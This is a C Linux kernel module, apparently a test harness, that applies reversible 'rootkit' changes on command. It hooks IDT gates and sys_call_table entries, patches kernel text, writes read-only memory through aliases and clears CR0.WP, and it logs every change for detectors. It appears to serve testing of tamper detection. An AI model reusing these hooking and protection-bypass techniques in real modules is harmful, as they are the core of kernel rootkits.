// SPDX-License-Identifier: GPL-2.0-only
/*
 * The lab's rootkit: changes what a real one changes, harms nothing, puts it back when told to.
 *
 * Commands are written to /proc/attack, one per write:
 *	gdt CPU INDEX		flip the DPL of a descriptor in one CPU's GDT
 *	idt VECTOR		point a gate of the shared IDT at a stub of ours
 *	idt-cpu CPU VECTOR	the same, in a copy of the IDT that only this CPU loads
 *	syscall NR		point an entry of sys_call_table at a wrapper of ours
 *	text NR			point the branch of x64_sys_call that serves it there, in the text
 *	int3			a breakpoint behind the entry of kernel_halt(), which nobody calls
 *	jmp			a branch to code of ours in that place
 *	call			one at its entry, in the place of ftrace's
 *	wp CPU HOLD_US		clear CR0.WP on one CPU for a moment; reported once it is set again
 *	wp-hold CPU HOLD_US	the same for long; reported when cleared and when set
 *	undo			put back what is changed, last change first
 *
 * Every write to a watched object is followed at once by one line on the console:
 *	ATTACK seq=N action=apply|undo|toggle kind=KIND cpu=N index=N gva=0x… old=0x… new=0x…
 * (cpu is -1 for what all CPUs share; toggle lines end in hold_us=N, and apply lines in symbol=NAME
 * where the old value leads to a function).
 */
#include <linux/cpu.h>
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/ktime.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/smp.h>
#include <linux/syscalls.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <asm/desc.h>
#include <asm/nospec-branch.h>
#include <asm/processor-flags.h>

#define DESCRIPTOR_DPL	(3ULL << 45)
#define BRANCH_BYTES	5
#ifdef CONFIG_X86_KERNEL_IBT
#define ENTRY_BYTES	4	/* ENDBR64 */
#else
#define ENTRY_BYTES	0
#endif
#define DISPATCH_SEARCH	0x4000	/* bytes of x64_sys_call */
#define MAX_CHANGES	8
#define SYSCALL_TABLE_SEARCH (4 << 20)

/* One watched object that differs from what the kernel put there. */
struct change {
	const char *kind;
	int cpu;
	unsigned int index;
	unsigned int bytes;
	unsigned long gva;
	u64 old[2], new[2];
	unsigned long function;	/* to which the old value leads, if to any */
	void (*undo)(struct change *change);
	void *page;		/* the CPU's own copy of the IDT */
};

static unsigned long (*lookup_name)(const char *name);
static unsigned long *syscall_table;
static gate_desc *idt_table_ptr;

static DEFINE_MUTEX(lock);
static struct change changes[MAX_CHANGES];
static unsigned int nr_changes;
static unsigned int seq;

typedef long (*syscall_fn)(const struct pt_regs *regs);
static syscall_fn original_syscall;
unsigned long attack_original_gate;	/* seen by the stub below */

static long syscall_wrapper(const struct pt_regs *regs)
{
	return original_syscall(regs);
}

/* Goes on to where the gate led before, so that even a vector in use keeps working. */
void attack_gate_stub(void);
asm(".pushsection .text\n"
    ".globl attack_gate_stub\n"
    ".type attack_gate_stub, @function\n"
    "attack_gate_stub:\n"
#ifdef CONFIG_X86_64
    "	endbr64\n"
    ANNOTATE_RETPOLINE_SAFE
    "	jmp *attack_original_gate(%rip)\n"
#else
    "	jmp *attack_original_gate\n"
#endif
    "	int3\n"
    ".size attack_gate_stub, . - attack_gate_stub\n"
    ".popsection\n");

static void report(const struct change *c, const char *action, const u64 *old, const u64 *new,
		   const char *tail)
{
	char was[36], is[36];

	if (c->bytes == 16) {
		snprintf(was, sizeof(was), "0x%016llx%016llx", old[1], old[0]);
		snprintf(is, sizeof(is), "0x%016llx%016llx", new[1], new[0]);
	} else {
		snprintf(was, sizeof(was), "0x%016llx", old[0]);
		snprintf(is, sizeof(is), "0x%016llx", new[0]);
	}
	pr_alert("ATTACK seq=%u action=%s kind=%s cpu=%d index=%u gva=0x%016lx old=%s new=%s%s\n",
		 ++seq, action, c->kind, c->cpu, c->index, c->gva, was, is, tail);
}

/*
 * Store 4 or 8 bytes through a writable alias: the mapping the kernel uses is read-only, and CR0.WP
 * stays set.
 */
static int write_readonly(unsigned long gva, u64 value, unsigned int bytes)
{
	struct page *page = pfn_to_page(slow_virt_to_phys((void *)gva) >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	alias += offset_in_page(gva);
	if (bytes == 8)
		WRITE_ONCE(*(u64 *)alias, value);
	else
		WRITE_ONCE(*(u32 *)alias, value);
	vunmap((void *)((unsigned long)alias & PAGE_MASK));
	return 0;
}

static struct change *change_new(const char *kind, int cpu, unsigned int index, unsigned int bytes,
				 unsigned long gva)
{
	struct change *c = &changes[nr_changes];

	*c = (struct change){
		.kind = kind, .cpu = cpu, .index = index, .bytes = bytes, .gva = gva,
	};
	return c;
}

static void change_done(struct change *c)
{
	char tail[KSYM_NAME_LEN + 16] = "";

	nr_changes++;
	if (c->function)
		snprintf(tail, sizeof(tail), " symbol=%ps", (void *)c->function);
	report(c, "apply", c->old, c->new, tail);
}

static bool changed(const char *kind)
{
	unsigned int i;

	for (i = 0; i < nr_changes; i++)
		if (!strcmp(changes[i].kind, kind))
			return true;
	return false;
}

static void undo_gdt(struct change *c)
{
	WRITE_ONCE(*(u64 *)c->gva, c->old[0]);
}

/* Each CPU's GDT is writable memory; only the alias in GDTR is read-only. */
static int attack_gdt(int cpu, unsigned int index)
{
	u64 *entry = (u64 *)get_cpu_gdt_rw(cpu) + index;
	struct change *c;

	if (index >= GDT_ENTRIES)
		return -EINVAL;
	c = change_new("gdt_descriptor", cpu, index, 8, (unsigned long)entry);
	c->old[0] = READ_ONCE(*entry);
	c->new[0] = c->old[0] ^ DESCRIPTOR_DPL;
	c->undo = undo_gdt;
	WRITE_ONCE(*entry, c->new[0]);
	change_done(c);
	return 0;
}

static void hook_gate(struct change *c, const gate_desc *gate)
{
	gate_desc hooked = *gate;
	unsigned long stub = (unsigned long)attack_gate_stub;

	attack_original_gate = gate_offset(gate);
	c->function = attack_original_gate;
	hooked.offset_low = (u16)stub;
	hooked.offset_middle = (u16)(stub >> 16);
#ifdef CONFIG_X86_64
	hooked.offset_high = (u32)(stub >> 32);
#endif
	memcpy(c->old, gate, sizeof(*gate));
	memcpy(c->new, &hooked, sizeof(hooked));
}

static void undo_idt(struct change *c)
{
	if (write_readonly(c->gva, c->old[0], 8))
		pr_alert("ATTACK could not undo an IDT gate\n");
}

/* Kernel and modules share the upper half of an address: one store changes the whole gate. */
static int attack_idt(unsigned int vector)
{
	gate_desc *gate = idt_table_ptr + vector;
	struct change *c;
	int err;

	if (vector >= IDT_ENTRIES)
		return -EINVAL;
	if (changed("idt_gate"))
		return -EBUSY;
	c = change_new("idt_gate", -1, vector, sizeof(*gate), (unsigned long)gate);
	hook_gate(c, gate);
	c->undo = undo_idt;
	err = write_readonly(c->gva, c->new[0], 8);
	if (err)
		return err;
	change_done(c);
	return 0;
}

static void load_idt_base(void *base)
{
	struct desc_ptr idtr = { .size = IDT_ENTRIES * sizeof(gate_desc) - 1 };

	idtr.address = (unsigned long)base;
	asm volatile("lidt %0" : : "m" (idtr));
}

static void undo_idtr(struct change *c)
{
	smp_call_function_single(c->cpu, load_idt_base, (void *)(unsigned long)c->old[0], 1);
	free_page((unsigned long)c->page);
}

/* The gate lies in the copy, which the CPU's IDTR leads to no more once undo_idtr() ran. */
static void undo_nothing(struct change *c)
{
}

static void store_idt_base(void *base)
{
	struct desc_ptr idtr;

	asm volatile("sidt %0" : "=m" (idtr));
	*(unsigned long *)base = idtr.address;
}

static int attack_idt_cpu(int cpu, unsigned int vector)
{
	struct change *gate, *idtr;
	unsigned long base;
	gate_desc *copy;

	if (vector >= IDT_ENTRIES)
		return -EINVAL;
	if (changed("idt_gate"))
		return -EBUSY;
	/* With page table isolation the copy is not mapped while user code runs. */
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	copy = (void *)__get_free_page(GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	smp_call_function_single(cpu, store_idt_base, &base, 1);
	memcpy(copy, (void *)base, IDT_ENTRIES * sizeof(*copy));

	gate = change_new("idt_gate", cpu, vector, sizeof(*copy), (unsigned long)&copy[vector]);
	hook_gate(gate, &copy[vector]);
	gate->undo = undo_nothing;
	memcpy(&copy[vector], gate->new, sizeof(copy[vector]));
	smp_call_function_single(cpu, load_idt_base, copy, 1);
	change_done(gate);

	idtr = change_new("idtr", cpu, 0, 8, (unsigned long)copy);
	idtr->old[0] = base;
	idtr->new[0] = (unsigned long)copy;
	idtr->page = copy;
	idtr->undo = undo_idtr;
	change_done(idtr);
	return 0;
}

static void undo_syscall(struct change *c)
{
	if (write_readonly(c->gva, c->old[0], c->bytes))
		pr_alert("ATTACK could not undo a system call\n");
}

static int attack_syscall(unsigned int nr)
{
	unsigned long *entry = syscall_table + nr;
	struct change *c;
	int err;

	if (nr >= NR_syscalls)
		return -EINVAL;
	if (changed("syscall_entry"))
		return -EBUSY;
	original_syscall = (syscall_fn)READ_ONCE(*entry);
	c = change_new("syscall_entry", -1, nr, sizeof(*entry), (unsigned long)entry);
	c->old[0] = (unsigned long)original_syscall;
	c->function = (unsigned long)original_syscall;
	c->new[0] = (unsigned long)syscall_wrapper;
	c->undo = undo_syscall;
	err = write_readonly(c->gva, c->new[0], c->bytes);
	if (err)
		return err;
	change_done(c);
	return 0;
}

static void undo_text(struct change *c)
{
	if (write_readonly(c->gva + 1, c->old[0] - (c->gva + BRANCH_BYTES), 4))
		pr_alert("ATTACK could not undo a branch\n");
}

/* The CALL or JMP of x64_sys_call that leads to a handler. */
static u8 *find_branch(unsigned long handler)
{
	u8 *at = (u8 *)lookup_name("x64_sys_call"), *end = at + DISPATCH_SEARCH;

	for (; at && at < end; at++)
		if ((*at == 0xe8 || *at == 0xe9) &&
		    (unsigned long)at + BRANCH_BYTES + *(s32 *)(at + 1) == handler)
			return at;
	return NULL;
}

static int attack_text(unsigned int nr)
{
	struct change *c;
	u8 *branch;
	int err;

	if (nr >= NR_syscalls || changed("syscall_entry"))
		return -EINVAL;
	original_syscall = (syscall_fn)READ_ONCE(syscall_table[nr]);
	branch = find_branch((unsigned long)original_syscall);
	if (!branch || offset_in_page(branch + 1) > PAGE_SIZE - 4)
		return -ENOENT;
	c = change_new("text", -1, nr, 8, (unsigned long)branch);
	c->old[0] = (unsigned long)original_syscall;
	c->new[0] = (unsigned long)syscall_wrapper;
	c->undo = undo_text;
	err = write_readonly(c->gva + 1, c->new[0] - (c->gva + BRANCH_BYTES), 4);
	if (err)
		return err;
	change_done(c);
	return 0;
}

static void undo_code(struct change *c)
{
	if (write_readonly(c->gva, c->old[0], c->bytes))
		pr_alert("ATTACK could not undo a change of code\n");
}

/* Eight bytes from there on; none of them is ever run. */
static int attack_code(unsigned int offset, u8 opcode, unsigned int bytes)
{
	unsigned long gva = lookup_name("kernel_halt") + ENTRY_BYTES + offset;
	unsigned long target = (unsigned long)syscall_wrapper;
	struct change *c;
	s32 distance;
	int err;

	OPTIMIZER_HIDE_VAR(target); /* no relocation into the middle of code, which objtool minds */
	distance = target - (gva + BRANCH_BYTES);
	if (gva < PAGE_SIZE || offset_in_page(gva) > PAGE_SIZE - 8)
		return -ENOENT;
	c = change_new("text", -1, opcode, 8, gva);
	c->old[0] = *(u64 *)gva;
	c->new[0] = c->old[0];
	memcpy(&c->new[0], &opcode, 1);
	if (bytes == BRANCH_BYTES)
		memcpy((u8 *)&c->new[0] + 1, &distance, 4);
	c->undo = undo_code;
	err = write_readonly(gva, c->new[0], c->bytes);
	if (err)
		return err;
	change_done(c);
	return 0;
}

struct wp_request {
	int cpu;
	unsigned int hold_us;
	bool report_both;
};

/* The kernel's write_cr0() refuses to clear WP. */
static void set_cr0(unsigned long cr0)
{
	asm volatile("mov %0, %%cr0" : : "r" ((unsigned long)cr0) : "memory");
}

/*
 * Runs on the CPU in question. Nothing else may run there meanwhile: with WP clear the kernel's
 * writes to user memory would go through copy-on-write pages.
 */
static long wp_clear(void *data)
{
	const struct wp_request *request = data;
	struct change c = { .kind = "cr0_wp", .cpu = request->cpu, .bytes = 8 };
	char tail[32];
	ktime_t end;

	preempt_disable();
	c.old[0] = read_cr0();
	c.new[0] = c.old[0] & ~X86_CR0_WP;
	end = ktime_add_us(ktime_get(), request->hold_us);
	set_cr0(c.new[0]);
	if (request->report_both)
		report(&c, "apply", c.old, c.new, "");
	while (ktime_before(ktime_get(), end))
		cpu_relax();
	set_cr0(c.old[0]);
	if (request->report_both) {
		report(&c, "undo", c.new, c.old, "");
	} else {
		snprintf(tail, sizeof(tail), " hold_us=%u", request->hold_us);
		report(&c, "toggle", c.old, c.new, tail);
	}
	preempt_enable();
	return 0;
}

static int attack_wp(int cpu, unsigned int hold_us, bool report_both)
{
	struct wp_request request = { cpu, hold_us, report_both };

	return work_on_cpu(cpu, wp_clear, &request);
}

static int undo_all(void)
{
	struct change *c;

	while (nr_changes) {
		c = &changes[--nr_changes];
		c->undo(c);
		report(c, "undo", c->new, c->old, "");
	}
	return 0;
}

static int run(const char *command)
{
	unsigned int a, b;

	if (nr_changes > MAX_CHANGES - 2 && strcmp(command, "undo"))
		return -EBUSY;
	if (!strcmp(command, "undo"))
		return undo_all();
	if (sscanf(command, "idt %u", &a) == 1)
		return attack_idt(a);
	if (sscanf(command, "syscall %u", &a) == 1)
		return attack_syscall(a);
	if (sscanf(command, "text %u", &a) == 1)
		return attack_text(a);
	if (!strcmp(command, "int3"))
		return attack_code(BRANCH_BYTES, 0xcc, 1);
	if (!strcmp(command, "jmp"))
		return attack_code(BRANCH_BYTES, 0xe9, BRANCH_BYTES);
	if (!strcmp(command, "call"))
		return attack_code(0, 0xe8, BRANCH_BYTES);
	/* What is left names a CPU first. */
	if (sscanf(command, "%*s %u %u", &a, &b) != 2 || a >= nr_cpu_ids || !cpu_online(a))
		return -EINVAL;
	if (!strncmp(command, "gdt ", 4))
		return attack_gdt(a, b);
	if (!strncmp(command, "idt-cpu ", 8))
		return attack_idt_cpu(a, b);
	if (!strncmp(command, "wp ", 3))
		return attack_wp(a, b, false);
	if (!strncmp(command, "wp-hold ", 8))
		return attack_wp(a, b, true);
	return -EINVAL;
}

static ssize_t command_write(struct file *file, const char __user *text, size_t len, loff_t *pos)
{
	char command[64];
	int err;

	if (len >= sizeof(command))
		return -EINVAL;
	if (copy_from_user(command, text, len))
		return -EFAULT;
	command[len] = '\0';
	mutex_lock(&lock);
	err = run(strim(command));
	mutex_unlock(&lock);
	return err ? err : len;
}

static const struct proc_ops command_ops = {
	.proc_write = command_write,
};

/* Debian's 32-bit kernels do not name it: it lies in what follows the text. */
static unsigned long *find_syscall_table(void)
{
	unsigned long *at = (void *)PAGE_ALIGN(lookup_name("_etext"));
	unsigned long *end = at + SYSCALL_TABLE_SEARCH / sizeof(*at);
	unsigned long restart = lookup_name("__ia32_sys_restart_syscall");
	unsigned long exit = lookup_name("__ia32_sys_exit");

	for (; restart && exit && at < end; at++)
		if (at[0] == restart && at[1] == exit)
			return at;
	return NULL;
}

static int resolve(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&probe);

	if (err)
		return err;
	lookup_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	store_idt_base(&idt_table_ptr);
	syscall_table = (void *)lookup_name("sys_call_table");
	if (!syscall_table)
		syscall_table = find_syscall_table();
	return syscall_table ? 0 : -ENOENT;
}

static int __init attack_init(void)
{
	int err = resolve();

	if (err)
		return err;
	return proc_create("attack", 0200, NULL, &command_ops) ? 0 : -ENOMEM;
}

/* No exit: a system call may still be inside the wrapper. */
module_init(attack_init);
MODULE_DESCRIPTION("Reversible changes to kernel tables, for tests");
MODULE_LICENSE("GPL");
